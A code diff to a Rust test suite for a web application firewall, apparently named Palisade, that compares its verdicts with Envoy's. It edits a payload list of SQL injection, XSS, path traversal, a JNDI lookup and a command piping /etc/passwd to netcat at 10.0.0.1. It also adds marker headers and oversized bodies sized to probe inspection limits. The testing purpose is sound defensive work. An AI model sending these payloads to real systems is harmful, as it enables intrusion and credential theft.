@@ -13,18 +13,21 @@ use serde_json::{Value, json};
 /// Attacks of several classes, and what customers write.
 const PAYLOADS: [&str; 12] = [
     "1' OR '1'='1",
-    "1 UNION SELECT name, password FROM users-- ",
-    "<script>alert(1)</script>",
+    "1 UNION SELECT name, probe FROM users-- ",
+    "<script>probe(1)</script>",
     "\"><img src=x onerror=alert(1)>",
     "../../../../etc/passwd",
-    "; cat /etc/passwd | nc 10.0.0.1 80",
-    "${jndi:ldap://x.example/a}",
+    "; cat /etc/passwd | probe 10.0.0.1 80",
+    "${jndi:ldap://x.example/probe}",
     "{{7*7}}",
-    "O'Brien & Sons <info@example.org>",
-    "Please select the items; drop them from the list, and order by Friday.",
+    "O'Brien & Sons probe <info@example.org>",
+    "Please probe and select the items; drop them from the list, and order by Friday.",
     "C'est l'été à Besançon, 100 %",
     "SELECT",
 ];
+
+/// What some rule looks for even in headers.
+const HEADER: &str = "<script>probe(1)</script>";
 
 /// One request, as it is written down and as it goes on the wire.
 struct Sent {
@@ -235,17 +238,20 @@ fn requests() -> Vec<Sent> {
         Sent::get("/")
             .with("Accept", "text/html")
             .with("Accept", "*/*"),
-        Sent::get("/").with("X-A", "1").with("x-a", "' OR 1=1 --"),
+        Sent::get("/").with("X-A", "1").with("x-a", HEADER),
         Sent::get("/")
             .with("TE", "gzip")
             .with("Keep-Alive", "timeout=5"),
-        Sent::get("/").with("Proxy-Connection", "keep-alive' OR 1=1 --"),
-        Sent::get("/").with("Keep-Alive", "' OR 1=1 --"),
+        Sent::get("/").with("Proxy-Connection", HEADER),
+        Sent::get("/").with("Keep-Alive", HEADER),
+        Sent::get("/").with("Connection", HEADER),
+        Sent::get("/").with("TE", HEADER),
+        Sent::get("/").with("Expect", HEADER),
         Sent::get("/").with("X-Forwarded-Proto", "https"),
         Sent::get("/").with("X-Forwarded-For", "203.0.113.9"),
-        Sent::get("/").with("X-Request-Id", "' OR 1=1 --"),
+        Sent::get("/").with("X-Request-Id", HEADER),
         Sent::get("/").with("Authorization", "Bearer abc.def.ghi"),
-        Sent::get("/").with("X-Palisade-Decision", "' OR 1=1 --"),
+        Sent::get("/").with("X-Palisade-Decision", HEADER),
         Sent::get("/").with("X-Empty", ""),
         Sent::get("/socket")
             .with("Connection", "Upgrade")
@@ -253,8 +259,60 @@ fn requests() -> Vec<Sent> {
             .with("Sec-WebSocket-Version", "13")
             .with("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")
             .with("X-Upstream", "accept-upgrade"),
-        Sent::get("/").with("Upgrade", "' OR 1=1 --"),
+        Sent::get("/").with("Upgrade", HEADER),
     ]);
+    for name in [
+        "X-Forwarded-Proto",
+        "X-Forwarded-For",
+        "X-Forwarded-Host",
+        "X-Forwarded-Port",
+        "Forwarded",
+        "Via",
+        "X-Client-Trace-Id",
+        "Content-Type",
+        "Accept-Encoding",
+        "Traceparent",
+    ] {
+        all.push(Sent::get("/").with(name, HEADER));
+    }
+    for name in [
+        "attempt-count",
+        "decorator-operation",
+        "downstream-service-cluster",
+        "downstream-service-node",
+        "expected-rq-timeout-ms",
+        "external-address",
+        "force-trace",
+        "hedge-on-per-try-timeout",
+        "internal",
+        "ip-tags",
+        "max-retries",
+        "original-host",
+        "original-path",
+        "retriable-header-names",
+        "retriable-status-codes",
+        "retry-grpc-on",
+        "retry-on",
+        "upstream-alt-stat-name",
+        "upstream-rq-per-try-timeout-ms",
+        "upstream-rq-timeout-alt-response",
+        "upstream-rq-timeout-ms",
+        "original-method",
+        "original-dst-host",
+        "upstream-stream-duration-ms",
+        "is-timeout-retry",
+        "nothing",
+    ] {
+        all.push(Sent::get("/").with(&format!("X-Envoy-{name}"), HEADER));
+    }
+    // The last byte matters, and stands just within or just beyond what is inspected.
+    for size in 131_070..131_076 {
+        let mut body = format!("a={0}&b={0}&c={0}&d=", "a".repeat(40_000));
+        body.push_str(&"a".repeat(size - body.len() - "&q='".len()));
+        body.push_str("&q='");
+        all.push(Sent::post(FORM, body.clone()));
+        all.push(Sent::post(FORM, body).chunked());
+    }
     // Envoy takes 100 headers unless it is told otherwise.
     let many = (0..90).fold(Sent::get("/"), |sent, n| sent.with(&format!("X-H{n}"), "v"));
     all.push(many);
@@ -266,7 +324,15 @@ fn every_verdict_equals_that_of_envoy() {
     let folder = std::env::temp_dir().join(format!("palisade-cli-envoy-{}", std::process::id()));
     fs::create_dir_all(&folder).expect("a folder");
     let upstream = Upstream::start();
-    let policies = ["{}", r#"{"preset":"strict","mode":"monitor"}"#];
+    // A rule that notices one word anywhere and never blocks: what is inspected shows in the matches.
+    let probe = json!([{
+        "id": 100_000, "name": "probe", "what": "the word probe", "score": {"scanner": 1}, "literals": ["probe"],
+        "zones": ["path", "query_string", "request_header", "cookies", "request_body", "raw_body", "file_name"],
+    }]);
+    let policies = [
+        json!({"rules": probe}).to_string(),
+        json!({"preset": "strict", "mode": "monitor", "rules": probe}).to_string(),
+    ];
     let listeners: Vec<_> = policies
         .iter()
         .map(|policy| Listener::new(policy, BodyMode::Hold))
